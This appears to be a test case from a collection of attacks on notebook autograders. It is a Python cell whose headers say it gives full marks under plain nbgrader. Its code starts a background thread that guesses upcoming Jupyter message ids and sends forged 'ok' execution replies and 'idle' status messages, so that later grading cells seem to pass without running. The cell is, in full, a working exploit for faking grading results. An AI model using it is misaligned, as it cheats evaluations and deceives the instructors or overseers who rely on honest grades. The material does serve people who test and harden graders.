# attack: a thread keeps sending `ok` and `idle` for requests that are still to come: message ids can be counted on.
# target: all
# plain nbgrader: full marks
# %% trimmed
import threading
import time

kernel = get_ipython().kernel
parent = kernel.get_parent("shell")
ident = kernel._parent_ident["shell"]
prefix, number = parent["header"]["msg_id"].rsplit("_", 1)


def forge():
    while True:
        for later in range(int(number) + 1, int(number) + 40):
            fake = {**parent, "header": {**parent["header"], "msg_id": f"{prefix}_{later}"}}
            content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
            try:
                kernel.session.send(
                    kernel.shell_stream.socket if hasattr(kernel.shell_stream, "socket") else kernel.shell_stream,
                    "execute_reply",
                    content,
                    fake,
                    ident=ident,
                )
                kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, fake, ident=b"status")
            except Exception:
                pass
        time.sleep(0.01)


threading.Thread(target=forge, daemon=True).start()
